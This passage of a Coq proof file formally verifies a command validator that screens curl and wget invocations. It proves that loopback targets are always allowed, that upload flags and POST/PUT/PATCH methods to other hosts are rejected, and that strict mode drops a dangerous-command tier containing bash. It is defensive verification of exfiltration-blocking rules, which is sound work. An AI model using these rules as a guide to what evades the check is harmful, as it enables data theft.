    replace t with ti in * by congruence. by destruct (Li j).
  - destruct (reads_from_cases _ _ _ Hji) as [-> | (t & Ht & Hreach)]; [done |].
    replace t with tj in * by congruence. by destruct (Lj i).
Qed.

(** The code's list is [-O] and the flags that take an argument: where the
    loop reads no [-O], the tokens it skips are arguments of flags that
    take one. *)
Lemma skip_flags_are_argument_flags_and_remote_name (token : string) :
  token ∈ curl_skip_flags ↔ token = "-O" ∨ token ∈ curl_argument_flags.
Proof.
  unfold curl_argument_flags.
  rewrite !list_elem_of_In, List.filter_In, negb_true_iff, String.eqb_neq.
  destruct (decide (token = "-O")) as [-> | Hne]; [|tauto].
  split; [by left |]. intros _. apply list_elem_of_In. by_evaluation.
Qed.




(** Every position read inside the list is among [read_positions]. *)
Lemma reads_in_positions (tokens : list string) (fuel i k : nat) :
  (length tokens - i ≤ fuel)%nat →
  curl_reads_from tokens i k → is_Some (tokens !! k) →
  k ∈ read_positions fuel tokens i.
Proof.
  revert i. induction fuel as [|fuel IH]; intros i Hfuel Hreach [t Hk].
  - apply reads_from_ge in Hreach. apply lookup_lt_Some in Hk. lia.
  - simpl. destruct (reads_from_cases _ _ _ Hreach) as [-> | (t' & Ht' & Hreach')].
    + rewrite Hk. apply list_elem_of_here.
    + rewrite Ht'. apply list_elem_of_further.
      pose proof (curl_next_advances tokens i t').
      apply IH; [lia | done | by eexists].
Qed.


Lemma no_method_from_checked (tokens : list string) (i : nat) :
  List.forallb
    (λ k, match tokens !! k with
          | Some t => bool_decide (curl_method_arg tokens k t = None)
          | None => true
          end)
    (read_positions (length tokens) tokens i) = true →
  no_method_from tokens i.
Proof.
  intros Hall k t Hreach Hk. rewrite List.forallb_forall in Hall.
  assert (k ∈ read_positions (length tokens) tokens i) as Hin
    by (apply reads_in_positions; [lia | done | by eexists]).
  apply list_elem_of_In, Hall in Hin. rewrite Hk in Hin.
  by apply bool_decide_eq_true in Hin.
Qed.


End CurlScan.

(** ** Loopback targets *)

Section Loopback.
Context `{PyText}.

(** A URL that has a hostname is not the empty string. *)
Lemma url_with_hostname_nonempty (u h : string) :
  UrlParse.urlparse_hostname u = Some (Some h) → PyStr.nonempty u = true.
Proof. by destruct u. Qed.

Lemma loopback_hostname_is_localhost (u h : string) :
  UrlParse.urlparse_hostname u = Some (Some h) →
  str_lower h ∈ ALLOWED_HOSTS →
  url_is_local (Some u) = true.
Proof.
  intros Hhost Hin. unfold url_is_local, _is_localhost.
  rewrite (url_with_hostname_nonempty u h Hhost), Hhost. simpl.
  by apply bool_decide_eq_true_2.
Qed.



(** C2. When the URL a validator picks has a hostname whose lower-case form
    is localhost, 127.0.0.1, ::1 or 0.0.0.0, the validator returns
    [(True, "")], whatever upload flags and methods the command carries:
    for curl the URL is the one [_extract_url_from_tokens] returns, for
    wget the one found from the end of the tokens. *)
Theorem loopback_target_always_allowed (command_string : string)
    (tokens : list string) (u h : string) :
  Shlex.split command_string = Some tokens →
  UrlParse.urlparse_hostname u = Some (Some h) →
  str_lower h ∈ ALLOWED_HOSTS →
  (head tokens = Some "curl" →
   _extract_url_from_tokens tokens curl_skip_flags = Some u →
   validate_curl_command command_string = (true, ""))
  ∧ (head tokens = Some "wget" →
     wget_url tokens = Some u →
     validate_wget_command command_string = (true, "")).
Proof.
  intros Hsplit Hhost Hin. split; intros Hhead Hurl.
  - rewrite (validate_curl_on_tokens _ _ Hsplit Hhead), Hurl.
    unfold decide_upload.
    by rewrite (loopback_hostname_is_localhost u h Hhost Hin).
  - rewrite (validate_wget_on_tokens _ _ Hsplit Hhead), Hurl.
    unfold decide_upload.
    by rewrite (loopback_hostname_is_localhost u h Hhost Hin).
Qed.

(** Once a URL has been found, tokens further to the right are never read. *)
Lemma extract_url_ignores_rest skip_flags skip_next (tokens rest : list string) u :
  extract_url skip_flags skip_next tokens = Some u →
  extract_url skip_flags skip_next (tokens ++ rest) = Some u.
Proof.
  revert skip_next.
  induction tokens as [|token tokens IH]; intros skip_next; [done |].
  simpl. destruct skip_next; [apply IH |].
  destruct (PyStr.startswith "-" token); [apply IH |].
  destruct (has_url_scheme token); [done |].
  destruct (PyStr.contains "." token || bool_decide (token ∈ ALLOWED_HOSTS));
    [done | apply IH].
Qed.

(** A token that starts with a flag followed by [=] has an [=] in it. *)
Lemma prefix_with_equals_contains (flag token : string) :
  PyStr.startswith (flag +:+ "=") token = true →
  PyStr.contains "=" token = true.
Proof.
  unfold PyStr.startswith. revert token.
  induction flag as [|c flag IH]; intros [|d token]; try done.
  - change ("" +:+ "=") with "=". cbn [String.prefix PyStr.contains].
    destruct (ascii_dec "=" d) as [<- | Hne]; [done |]. done.
  - change (String c flag +:+ "=") with (String c (flag +:+ "=")).
    cbn [String.prefix PyStr.contains].
    destruct (ascii_dec c d); [|done]. intros Hp.
    rewrite (IH _ Hp). by destruct (Ascii.eqb "=" d).
Qed.

(** A flag list without [=] in its flags asks to skip the next token
    exactly on the tokens that are one of its flags. *)
Lemma takes_next_is_membership (flags : list string) (token : string) :
  List.forallb (λ flag, negb (PyStr.contains "=" flag)) flags = true →
  takes_next flags token = bool_decide (token ∈ flags).
Proof.
  intros Hplain. unfold takes_next.
  destruct (List.find (flag_matches token) flags) as [flag|] eqn:Hfind.
  - apply List.find_some in Hfind as [Hin Hmatch].
    unfold flag_matches in Hmatch. apply orb_true_iff in Hmatch as [Heq | Hpre].
    + apply String.eqb_eq in Heq as ->.
      pose proof (proj1 (List.forallb_forall _ _) Hplain flag Hin) as Hno.
      cbv beta in Hno. rewrite Hno.
      symmetry. apply bool_decide_eq_true. by apply list_elem_of_In.
    + rewrite (prefix_with_equals_contains _ _ Hpre). simpl.
      symmetry. apply bool_decide_eq_false. intros Hmem%list_elem_of_In.
      pose proof (proj1 (List.forallb_forall _ _) Hplain token Hmem) as Hno.
      cbv beta in Hno.
      by rewrite (prefix_with_equals_contains _ _ Hpre) in Hno.
  - symmetry. apply bool_decide_eq_false. intros Hmem%list_elem_of_In.
    pose proof (List.find_none _ _ Hfind token Hmem) as Hno.
    unfold flag_matches in Hno. by rewrite String.eqb_refl in Hno.
Qed.

(** The loop of the search, from either value of [skip_next], against the
    first URL-like token outside the flags. *)
Lemma extract_url_is_first_url_like (flags : list string) (args : list string) :
  List.forallb (λ flag, negb (PyStr.contains "=" flag)) flags = true →
  extract_url flags false args
  = with_scheme <$> List.find url_like (outside_flags flags args)
  ∧ extract_url flags true args
    = with_scheme <$> List.find url_like (outside_flags flags (tail args)).
Proof.
  intros Hplain.
  induction args as [|token rest [IHfalse IHtrue]]; [done |].
  split; [|exact IHfalse].
  cbn [extract_url outside_flags].
  destruct (PyStr.startswith "-" token).
  - rewrite (takes_next_is_membership _ _ Hplain).
    destruct (bool_decide (token ∈ flags)); [|exact IHfalse].
    rewrite IHtrue. by destruct rest.
  - cbn [List.find]. unfold url_like, with_scheme.
    destruct (has_url_scheme token) eqn:Hscheme; simpl; [by rewrite Hscheme |].
    destruct (PyStr.contains "." token || bool_decide (token ∈ ALLOWED_HOSTS));
      simpl; [by rewrite Hscheme | exact IHfalse].
Qed.

(** X19. The URL of a curl command is the first URL-like token outside the
    flags, with the scheme http when it is bare: the arguments are read
    from the left, every token that starts with a dash is passed over, and
    so is the token after it when the dash token is one of the flags of the
    code's list; the first remaining token that starts with a scheme,
    contains a dot or is a loopback alias is the URL, and there is none
    when no token remains that does. *)
Theorem curl_url_is_first_url_like (tokens : list string) :
  _extract_url_from_tokens tokens curl_skip_flags
  = with_scheme <$> List.find url_like
                      (outside_flags curl_skip_flags (tail tokens)).
Proof.
  unfold _extract_url_from_tokens.
  apply extract_url_is_first_url_like. by vm_compute.
Qed.



End Loopback.

(** ** More on the classifier and the registry *)

Section ClassifierMore.
Context `{PyText} `{ValidatorRegistry.Collaborators}.

(** The three tiers share no command. *)
Lemma tiers_pairwise_disjoint :
  Base.SAFE_COMMANDS ## Base.DANGEROUS_COMMANDS
  ∧ Base.SAFE_COMMANDS ## Base.NETWORK_COMMANDS
  ∧ Base.DANGEROUS_COMMANDS ## Base.NETWORK_COMMANDS.
Proof. split_and!; by_evaluation. Qed.

(** The set algebra of the tiers, on any three pairwise disjoint sets of
    which the second has a member. *)
Lemma drop_middle_tier (S D N : gset string) (c : string) :
  S ## D → D ## N → c ∈ D →
  S ∪ N = (S ∪ D ∪ N) ∖ D ∧ S ∪ N ⊂ S ∪ D ∪ N.
Proof.
  intros HSD HDN Hc. rewrite elem_of_disjoint in HSD, HDN. split.
  - apply set_eq. intros x.
    rewrite elem_of_difference, !elem_of_union.
    split; [intros [Hx | Hx]; split; eauto | tauto].
  - split; [intros x; rewrite !elem_of_union; tauto |].
    intros Hsub. specialize (Hsub c).
    rewrite !elem_of_union in Hsub.
    destruct Hsub as [Hx | Hx]; eauto.
Qed.

(** X1. Strict mode removes the dangerous tier and nothing else: the base
    commands of a strict environment are those of a normal environment
    without the dangerous commands, a proper subset, and curl and wget are
    base commands in both. *)
Theorem strict_base_commands_drop_dangerous (strict normal : gmap string string) :
  Base.is_strict_mode strict = true →
  Base.is_strict_mode normal = false →
  Base.get_base_commands strict
  = Base.get_base_commands normal ∖ Base.DANGEROUS_COMMANDS
  ∧ Base.get_base_commands strict ⊂ Base.get_base_commands normal
  ∧ Base.NETWORK_COMMANDS ⊆ Base.get_base_commands strict
  ∧ Base.NETWORK_COMMANDS ⊆ Base.get_base_commands normal.
Proof.
  intros Hs Hn. unfold Base.get_base_commands. rewrite Hs, Hn.
  destruct tiers_pairwise_disjoint as (HSD & _ & HDN).
  assert ("bash" ∈ Base.DANGEROUS_COMMANDS) as Hbash by by_evaluation.
  destruct (drop_middle_tier _ _ _ "bash" HSD HDN Hbash) as [Heq Hproper].
  split_and!; [exact Heq | exact Hproper | |].
  - apply union_subseteq_r.
  - apply union_subseteq_r.
Qed.

(** X17. The constants kept for backward compatibility are the tables of
    normal mode: in normal mode [BASE_COMMANDS], [VALIDATED_COMMANDS] and
    [VALIDATORS] are what the mode-aware functions return, and in strict
    mode [BASE_COMMANDS] has commands the mode excludes while
    [VALIDATED_COMMANDS] and [VALIDATORS] lack entries the mode adds. *)
Theorem legacy_constants_are_normal_mode (environ : gmap string string) :
  if Base.is_strict_mode environ
  then Base.get_base_commands environ ⊂ Base.BASE_COMMANDS
       ∧ Base.VALIDATED_COMMANDS ⊂ Base.get_validated_commands environ
       ∧ ValidatorRegistry.VALIDATORS
         ⊂ ValidatorRegistry.get_validators environ
  else Base.get_base_commands environ = Base.BASE_COMMANDS
       ∧ Base.VALIDATED_COMMANDS = Base.get_validated_commands environ
       ∧ ValidatorRegistry.VALIDATORS
         = ValidatorRegistry.get_validators environ.
Proof.
  unfold Base.get_base_commands, Base.BASE_COMMANDS,
    Base.get_validated_commands, Base.VALIDATED_COMMANDS,
    ValidatorRegistry.get_validators, ValidatorRegistry.VALIDATORS.
  destruct (Base.is_strict_mode environ); [|split_and!; reflexivity].
  destruct tiers_pairwise_disjoint as (HSD & _ & HDN).
  assert ("bash" ∈ Base.DANGEROUS_COMMANDS) as Hbash by by_evaluation.
  split_and!.
  - apply (drop_middle_tier _ _ _ "bash" HSD HDN Hbash).
  - apply (disjoint_union_extends _ _ strict_keys_fresh_in_base).
    by eexists.
  - apply (disjoint_union_extends _ _ strict_keys_fresh_in_registry).
    by eexists.
Qed.

(** X2. The mode depends on the one key only, and follows it at once:
    writing or deleting any other key leaves the mode as it is, deleting
    the key gives normal mode, and setting it to true gives strict mode. *)
Theorem is_strict_mode_reads_one_key (environ : gmap string string)
    (k v : string) :
  k ≠ "SECURITY_STRICT_MODE" →
  Base.is_strict_mode (<[k := v]> environ) = Base.is_strict_mode environ
  ∧ Base.is_strict_mode (delete k environ) = Base.is_strict_mode environ
  ∧ Base.is_strict_mode (delete "SECURITY_STRICT_MODE" environ) = false
  ∧ Base.is_strict_mode (<["SECURITY_STRICT_MODE" := "true"]> environ) = true.
Proof.
  intros Hk. unfold Base.is_strict_mode, Base.SECURITY_STRICT_MODE.
  rewrite lookup_insert_ne, lookup_delete_ne, lookup_delete_eq,
    lookup_insert_eq by done.
  split_and!; [done | done | |].
  - rewrite lower_of_default_absent. by vm_compute.
  - simpl. rewrite str_lower_ascii by reflexivity. by vm_compute.
Qed.

(** The lookups of the two tables of the registry. *)
Lemma strict_table_only_network (name : string) :
  name ≠ "curl" → name ≠ "wget" →
  ValidatorRegistry._STRICT_VALIDATORS !! name = None.
Proof.
  intros Hc Hw. unfold ValidatorRegistry._STRICT_VALIDATORS. simpl.
  by rewrite !lookup_insert_ne, lookup_empty.
Qed.

Lemma base_table_without_network :
  ValidatorRegistry._BASE_VALIDATORS !! "curl" = None
  ∧ ValidatorRegistry._BASE_VALIDATORS !! "wget" = None.
Proof.
  split; apply not_elem_of_dom;
    unfold ValidatorRegistry._BASE_VALIDATORS;
    rewrite dom_list_to_map_L; simpl; by_evaluation.
Qed.

(** X3. Dispatch. For curl and for wget the registry answers with the
    network validator in strict mode and with nothing in normal mode; for
    every other name the answer is the same in every mode. *)
Theorem get_validator_by_mode (environ other : gmap string string)
    (name : string) :
  ValidatorRegistry.get_validator environ "curl"
  = (if Base.is_strict_mode environ then Some validate_curl_command else None)
  ∧ ValidatorRegistry.get_validator environ "wget"
    = (if Base.is_strict_mode environ then Some validate_wget_command else None)
  ∧ (name ≠ "curl" → name ≠ "wget" →
     ValidatorRegistry.get_validator environ name
     = ValidatorRegistry.get_validator other name).
Proof.
  destruct base_table_without_network as [Hcurl Hwget].
  unfold ValidatorRegistry.get_validator, ValidatorRegistry.get_validators.
  split_and!.
  - destruct (Base.is_strict_mode environ); [|exact Hcurl].
    apply lookup_union_Some_l.
    unfold ValidatorRegistry._STRICT_VALIDATORS. simpl.
    apply lookup_insert_eq.
  - destruct (Base.is_strict_mode environ); [|exact Hwget].
    apply lookup_union_Some_l.
    unfold ValidatorRegistry._STRICT_VALIDATORS. simpl.
    rewrite lookup_insert_ne by done. apply lookup_insert_eq.
  - intros Hc Hw.
    pose proof (strict_table_only_network name Hc Hw) as Hnone.
    destruct (Base.is_strict_mode environ), (Base.is_strict_mode other);
      try reflexivity.
    + by rewrite lookup_union_r.
    + by rewrite lookup_union_r.
Qed.

(** X4. Every command the classifier marks as validated has a validator
    function in the registry of the same mode. *)
Theorem validated_commands_have_validators (environ : gmap string string) :
  dom (Base.get_validated_commands environ)
  ⊆ dom (ValidatorRegistry.get_validators environ).
Proof.
  unfold Base.get_validated_commands, ValidatorRegistry.get_validators.
  destruct (Base.is_strict_mode environ).
  - rewrite !dom_union_L.
    unfold ValidatorRegistry._STRICT_VALIDATORS, ValidatorRegistry._BASE_VALIDATORS.
    rewrite !dom_list_to_map_L. simpl. by_evaluation.
  - unfold ValidatorRegistry._BASE_VALIDATORS.
    rewrite dom_list_to_map_L. simpl. by_evaluation.
Qed.

End ClassifierMore.

(** ** The curl validator, both directions *)

Section CurlDecision.
Context `{PyText}.

(** What the loop has recorded when it is done: [has_upload_data] is set
    exactly when a flag was recorded, the flag is an upload flag, and a
    method is the upper-cased successor of a method option. *)
Lemma curl_scan_outcome (tokens : list string) :
  let final := curl_scan (length tokens) tokens 1 scan_init in
  (has_upload_data final = false ∧ upload_flag_found final = None
   ∧ no_upload_from tokens 1
   ∨ ∃ k token flag,
       curl_reads_from tokens 1 k ∧ tokens !! k = Some token
       ∧ curl_upload_flag token = Some flag
       ∧ has_upload_data final = true ∧ upload_flag_found final = Some flag)
  ∧ (explicit_method final = None ∧ no_method_from tokens 1
     ∨ ∃ k token m,
         curl_reads_from tokens 1 k ∧ tokens !! k = Some token
         ∧ curl_method_arg tokens k token = Some m
         ∧ no_method_from tokens (curl_next tokens k token)
         ∧ explicit_method final = Some (str_upper m)).
Proof.
  intros final. split.
  - destruct (curl_scan_upload tokens (length tokens) 1 scan_init) as
      [(Hquiet & Hhas & Hfound) | (k & t & flag & Hk & Htk & Hflag & _ & Hhas & Hfound)];
      [lia | left | right].
    + split_and!; [exact Hhas | exact Hfound | exact Hquiet].
    + exists k, t, flag. split_and!; assumption.
  - destruct (curl_scan_method tokens (length tokens) 1 scan_init) as
      [(Hquiet & Hmethod) | (k & t & m & Hk & Htk & Hm & Hlast & Hmethod)];
      [lia | left | right].
    + split; [exact Hmethod | exact Hquiet].
    + exists k, t, m. split_and!; assumption.
Qed.

(** X5. A curl command whose target is absent or not loopback is rejected
    exactly when the loop reads an upload flag, or when the last method
    option it reads with a successor names POST, PUT or PATCH in any
    case. *)
Theorem curl_rejected_iff_signal (command_string : string)
    (tokens : list string) :
  Shlex.split command_string = Some tokens →
  head tokens = Some "curl" →
  url_is_local (_extract_url_from_tokens tokens curl_skip_flags) = false →
  (validate_curl_command command_string).1 = false ↔
  (∃ k token flag,
      curl_reads_from tokens 1 k ∧ tokens !! k = Some token
      ∧ curl_upload_flag token = Some flag)
  ∨ (∃ k token m,
      curl_reads_from tokens 1 k ∧ tokens !! k = Some token
      ∧ curl_method_arg tokens k token = Some m
      ∧ no_method_from tokens (curl_next tokens k token)
      ∧ str_upper m ∈ UPLOAD_METHODS).
Proof.
  intros Hsplit Hhead Hurl.
  rewrite (validate_curl_on_tokens _ _ Hsplit Hhead).
  unfold decide_upload, is_upload. rewrite Hurl.
  destruct (curl_scan_outcome tokens) as [Hupload Hmethod].
  cbv zeta in Hupload, Hmethod.
  set (final := curl_scan (length tokens) tokens 1 scan_init) in *.
  clearbody final.
  destruct Hupload as
    [(Hhas & Hfound & Hquiet) | (k & t & flag & Hk & Htk & Hflag & Hhas & Hfound)].
  - rewrite Hhas, Hfound. simpl.
    destruct Hmethod as
      [(Hnone & Hmq) | (k & t & m & Hk & Htk & Hm & Hlast & Hsome)].
    + rewrite Hnone. simpl. split; [intros [=] |].
      intros [(k & t & f & Hk & Htk & Hf) | (k & t & m & Hk & Htk & Hm & _)].
      * rewrite (Hquiet k t Hk Htk) in Hf. congruence.
      * rewrite (Hmq k t Hk Htk) in Hm. congruence.
    + rewrite Hsome. simpl.
      destruct (bool_decide (str_upper m ∈ UPLOAD_METHODS)) eqn:Hin; simpl.
      * split; [intros _ | reflexivity]. right.
        apply bool_decide_eq_true in Hin.
        exists k, t, m. split_and!; assumption.
      * split; [intros [=] |]. apply bool_decide_eq_false in Hin.
        intros [(k' & t' & f & Hk' & Htk' & Hf)
               | (k' & t' & m' & Hk' & Htk' & Hm' & Hlast' & Hin')].
        -- rewrite (Hquiet k' t' Hk' Htk') in Hf. congruence.
        -- assert (k = k') as <-.
           { apply (last_read_unique
                      (λ j, ∃ tj a, tokens !! j = Some tj
                                    ∧ curl_method_arg tokens j tj = Some a)
                      tokens 1 k k' t t'); try assumption.
             - by exists t, m.
             - intros j Hj (tj & a & Htj & Ha).
               rewrite (Hlast j tj Hj Htj) in Ha. congruence.
             - by exists t', m'.
             - intros j Hj (tj & a & Htj & Ha).
               rewrite (Hlast' j tj Hj Htj) in Ha. congruence. }
           assert (t' = t) as -> by congruence.
           assert (m' = m) as -> by congruence. contradiction.
  - rewrite Hhas, Hfound. simpl.
    apply curl_upload_flag_Some in Hflag as Hf. destruct Hf as [Hin _].
    rewrite (upload_flags_nonempty flag Hin). simpl.
    split; [intros _ | reflexivity]. left. exists k, t, flag.
    split_and!; assumption.
Qed.

(** A token that is read is a token of the command. *)
Lemma read_token_is_token (tokens : list string) (k : nat) (token : string) :
  tokens !! k = Some token → token ∈ tokens.
Proof. intros Hk. apply list_elem_of_lookup. by exists k. Qed.

(** X6. A curl command none of whose tokens is an upload flag, an upload
    flag extended with [=], [-X] or [--request] is accepted, whatever the
    host: headers, output files and the like never cause a rejection. *)
Theorem curl_without_signal_accepted (command_string : string)
    (tokens : list string) :
  Shlex.split command_string = Some tokens →
  head tokens = Some "curl" →
  (∀ token flag, token ∈ tokens → flag ∈ CURL_UPLOAD_FLAGS →
                 flag_matches token flag = false) →
  "-X" ∉ tokens → "--request" ∉ tokens →
  validate_curl_command command_string = (true, "").
Proof.
  intros Hsplit Hhead Hflags HX Hrequest.
  rewrite (validate_curl_on_tokens _ _ Hsplit Hhead).
  unfold decide_upload, is_upload.
  destruct (url_is_local _); [reflexivity |].
  destruct (curl_scan_outcome tokens) as [Hupload Hmethod].
  cbv zeta in Hupload, Hmethod.
  set (final := curl_scan (length tokens) tokens 1 scan_init) in *.
  clearbody final.
  destruct Hupload as
    [(Hhas & Hfound & _) | (k & t & flag & _ & Htk & Hflag & _)].
  2:{ apply curl_upload_flag_Some in Hflag as [Hin Hm].
      rewrite (Hflags t flag (read_token_is_token _ _ _ Htk) Hin) in Hm.
      congruence. }
  destruct Hmethod as [(Hnone & _) | (k & t & m & _ & Htk & Hm & _)].
  2:{ unfold curl_method_arg in Hm.
      destruct (bool_decide (t ∈ ["-X"; "--request"])) eqn:Ht; [|congruence].
      apply bool_decide_eq_true in Ht.
      apply read_token_is_token in Htk.
      rewrite !elem_of_cons, elem_of_nil in Ht.
      destruct Ht as [-> | [-> | []]]; contradiction. }
  by rewrite Hhas, Hnone.
Qed.

(** The test of the hypothesis of the next theorem on a given command. *)
Lemma no_flag_matches_checked (tokens : list string) :
  List.forallb (λ token,
    List.forallb (λ flag, negb (flag_matches token flag)) CURL_UPLOAD_FLAGS)
    tokens = true →
  ∀ token flag, token ∈ tokens → flag ∈ CURL_UPLOAD_FLAGS →
                flag_matches token flag = false.
Proof.
  intros Hall token flag Ht Hf.
  apply list_elem_of_In in Ht, Hf.
  rewrite List.forallb_forall in Hall. specialize (Hall token Ht).
  rewrite List.forallb_forall in Hall. specialize (Hall flag Hf).
  by apply negb_true_iff.
Qed.

(** The openings of the messages are not empty, so a rejection always
    carries a reason. *)
Lemma decide_upload_reason (with_flag with_method : string)
    (url : option string) (st : scan) :
  PyStr.nonempty with_flag = true → PyStr.nonempty with_method = true →
  let result := decide_upload with_flag with_method url st in
  (result.1 = true ↔ result.2 = "").
Proof.
  intros Hf Hm. unfold decide_upload.
  destruct with_flag as [|cf with_flag]; [discriminate Hf |].
  destruct with_method as [|cm with_method]; [discriminate Hm |].
  destruct (url_is_local url); [done |].
  destruct (is_upload st); [|done].
  destruct (upload_flag_found st) as [flag|];
    [destruct (PyStr.nonempty flag) |]; simpl; split; intros [=].
Qed.

End CurlDecision.

(** ** What the wget loop reads and records *)

Section WgetScan.
Context `{PyText}.

Lemma wget_skip_flags_start_with_dash (token : string) :
  token ∈ wget_skip_flags → PyStr.startswith "-" token = true.
Proof.
  intros Hin. apply list_elem_of_In in Hin.
  revert token Hin. apply List.forallb_forall. by vm_compute.
Qed.

(** The index after one turn of the loop. *)
Lemma wget_body_next (tokens : list string) (i : nat) (token : string) (st : scan) :
  (wget_body tokens i token st).1 = wget_next tokens i token.
Proof.
  unfold wget_body, wget_next.
  destruct (String.eqb token "--method");
    [destruct (tokens !! (i + 1))
    | destruct (PyStr.startswith "--method=" token)];
    (destruct (bool_decide (token ∈ wget_skip_flags)) eqn:Hskip;
     [apply bool_decide_eq_true in Hskip;
      rewrite (wget_skip_flags_start_with_dash token Hskip)
     | rewrite andb_false_r]);
    simpl; lia.
Qed.

(** The upload fields after one turn are those [check_upload] leaves. *)
Lemma wget_body_upload_fields (tokens : list string) (i : nat) (token : string)
    (st : scan) :
  let st' := (wget_body tokens i token st).2 in
  has_upload_data st' = has_upload_data (check_upload WGET_UPLOAD_FLAGS token st)
  ∧ upload_flag_found st' = upload_flag_found (check_upload WGET_UPLOAD_FLAGS token st).
Proof.
  unfold wget_body.
  destruct (String.eqb token "--method");
    [destruct (tokens !! (i + 1))
    | destruct (PyStr.startswith "--method=" token)];
    simpl; try apply set_method_upload_fields; by split.
Qed.

(** A turn that does not write the method leaves it as it was. *)
Lemma wget_body_method (tokens : list string) (i : nat) (token : string)
    (st : scan) :
  String.eqb token "--method" = false →
  PyStr.startswith "--method=" token = false →
  explicit_method (wget_body tokens i token st).2 = explicit_method st.
Proof.
  intros He Hp. unfold wget_body. rewrite He, Hp. simpl.
  apply check_upload_keeps_method.
Qed.

(** A flag found by the search is a flag of the table that the token
    matches. *)
Lemma wget_upload_flag_Some (token flag : string) :
  wget_upload_flag token = Some flag →
  flag ∈ WGET_UPLOAD_FLAGS ∧ flag_matches token flag = true.
Proof.
  intros Hfind. apply List.find_some in Hfind as [Hin Hm].
  split; [by apply list_elem_of_In | done].
Qed.

Lemma wget_upload_flag_None (token flag : string) :
  wget_upload_flag token = None → flag ∈ WGET_UPLOAD_FLAGS →
  flag_matches token flag = false.
Proof.
  intros Hfind Hin. apply list_elem_of_In in Hin.
  exact (List.find_none _ _ Hfind flag Hin).
Qed.

(** Both spellings of the method option are upload flags to the loop. *)
Lemma method_option_is_upload_flag (token : string) :
  String.eqb token "--method" = true ∨ PyStr.startswith "--method=" token = true →
  wget_upload_flag token ≠ None.
Proof.
  intros Hm Hnone.
  assert (flag_matches token "--method" = false) as Hf.
  { apply wget_upload_flag_None; [done |]. by_evaluation. }
  unfold flag_matches in Hf. apply orb_false_elim in Hf as [He Hp].
  change ("--method" +:+ "=") with "--method=" in Hp.
  destruct Hm; congruence.
Qed.

Lemma wget_check_upload_fields (token : string) (st : scan) :
  match wget_upload_flag token with
  | Some flag =>
      has_upload_data (check_upload WGET_UPLOAD_FLAGS token st) = true
      ∧ upload_flag_found (check_upload WGET_UPLOAD_FLAGS token st) = Some flag
  | None => check_upload WGET_UPLOAD_FLAGS token st = st
  end.
Proof.
  unfold check_upload, wget_upload_flag.
  by destruct (List.find (flag_matches token) WGET_UPLOAD_FLAGS).
Qed.

(** One turn of the loop keeps the state sound. *)
Lemma wget_body_sound (tokens : list string) (i : nat) (token : string)
    (st : scan) :
  wget_state_sound st → wget_state_sound (wget_body tokens i token st).2.
Proof.
  intros Hsound.
  destruct (wget_body_upload_fields tokens i token st) as [Hhas Hfound].
  pose proof (wget_check_upload_fields token st) as Hcheck.
  unfold wget_state_sound. rewrite Hhas, Hfound.
  destruct (wget_upload_flag token) as [flag|] eqn:Hflag.
  - destruct Hcheck as [-> ->]. left. split; [done |].
    exists flag. split; [done |]. by apply wget_upload_flag_Some in Hflag as [? _].
  - rewrite Hcheck.
    destruct Hsound as [Hs | (Hs1 & Hs2 & Hs3)]; [by left |]. right.
    split_and!; try done.
    rewrite wget_body_method; [done | |].
    + destruct (String.eqb token "--method") eqn:He; [|done].
      exfalso. apply (method_option_is_upload_flag token); [by left | done].
    + destruct (PyStr.startswith "--method=" token) eqn:Hp; [|done].
      exfalso. apply (method_option_is_upload_flag token); [by right | done].
Qed.

Lemma wget_next_advances (tokens : list string) (i : nat) (token : string) :
  (i < wget_next tokens i token)%nat.
Proof. unfold wget_next. lia. Qed.

Lemma wget_reads_from_ge (tokens : list string) (i k : nat) :
  wget_reads_from tokens i k → (i ≤ k)%nat.
Proof.
  induction 1 as [|j token _ IH _]; [lia |].
  pose proof (wget_next_advances tokens j token). lia.
Qed.

Lemma wget_reads_from_trans (tokens : list string) (i j k : nat) :
  wget_reads_from tokens i j → wget_reads_from tokens j k →
  wget_reads_from tokens i k.
Proof.
  intros Hij Hjk. induction Hjk as [|k token _ IH Hk]; [done |].
  by eapply wget_reads_on.
Qed.

Lemma wget_reads_from_step (tokens : list string) (i k : nat) (token : string) :
  tokens !! i = Some token →
  wget_reads_from tokens (wget_next tokens i token) k →
  wget_reads_from tokens i k.
Proof.
  intros Hi. apply wget_reads_from_trans.
  eapply wget_reads_on; [apply wget_reads_start | done].
Qed.

Lemma wget_reads_from_cases (tokens : list string) (i k : nat) :
  wget_reads_from tokens i k →
  k = i ∨ ∃ token, tokens !! i = Some token
                   ∧ wget_reads_from tokens (wget_next tokens i token) k.
Proof.
  induction 1 as [|j token Hij IH Hj]; [by left |]. right.
  destruct IH as [-> | (t & Hi & Hreach)].
  - exists token. split; [done | apply wget_reads_start].
  - exists t. split; [done |]. by eapply wget_reads_on.
Qed.

(** What the loop leaves behind: a sound state, with [has_upload_data] as
    it started when no token read is an upload flag, and set otherwise. *)
Lemma wget_scan_upload (tokens : list string) (fuel i : nat) (st : scan) :
  (length tokens - i ≤ fuel)%nat →
  wget_state_sound st →
  wget_state_sound (wget_scan fuel tokens i st)
  ∧ ((∀ k token, wget_reads_from tokens i k → tokens !! k = Some token →
                 wget_upload_flag token = None)
     ∧ has_upload_data (wget_scan fuel tokens i st) = has_upload_data st
     ∨ (∃ k token flag,
          wget_reads_from tokens i k ∧ tokens !! k = Some token
          ∧ wget_upload_flag token = Some flag)
       ∧ has_upload_data (wget_scan fuel tokens i st) = true).
Proof.
  revert i st. induction fuel as [|fuel IH]; intros i st Hfuel Hsound.
  - split; [done |]. left. split; [|done]. intros k t Hreach Hk.
    apply wget_reads_from_ge in Hreach. apply lookup_lt_Some in Hk. lia.
  - simpl. destruct (tokens !! i) as [token|] eqn:Hi.
    2:{ split; [done |]. left. split; [|done]. intros k t Hreach Hk.
        apply wget_reads_from_ge in Hreach. apply lookup_lt_Some in Hk.
        apply lookup_ge_None in Hi. lia. }
    pose proof (wget_body_next tokens i token st) as Hnext.
    pose proof (wget_body_sound tokens i token st Hsound) as Hsound'.
    destruct (wget_body_upload_fields tokens i token st) as [Hhas _].
    pose proof (wget_check_upload_fields token st) as Hcheck.
    pose proof (wget_next_advances tokens i token) as Hadv.
    destruct (wget_body tokens i token st) as [i' st'].
    simpl in Hnext, Hsound', Hhas. subst i'.
    destruct (IH (wget_next tokens i token) st') as [Hfinal Hcases];
      [lia | done |].
    split; [done |].
    destruct (wget_upload_flag token) as [flag|] eqn:Hflag.
    + right. split.
      * exists i, token, flag. split_and!; try done. apply wget_reads_start.
      * destruct Hcheck as [Hc _]. rewrite Hc in Hhas.
        destruct Hcases as [[_ ->] | [_ ->]]; done.
    + rewrite Hcheck in Hhas.
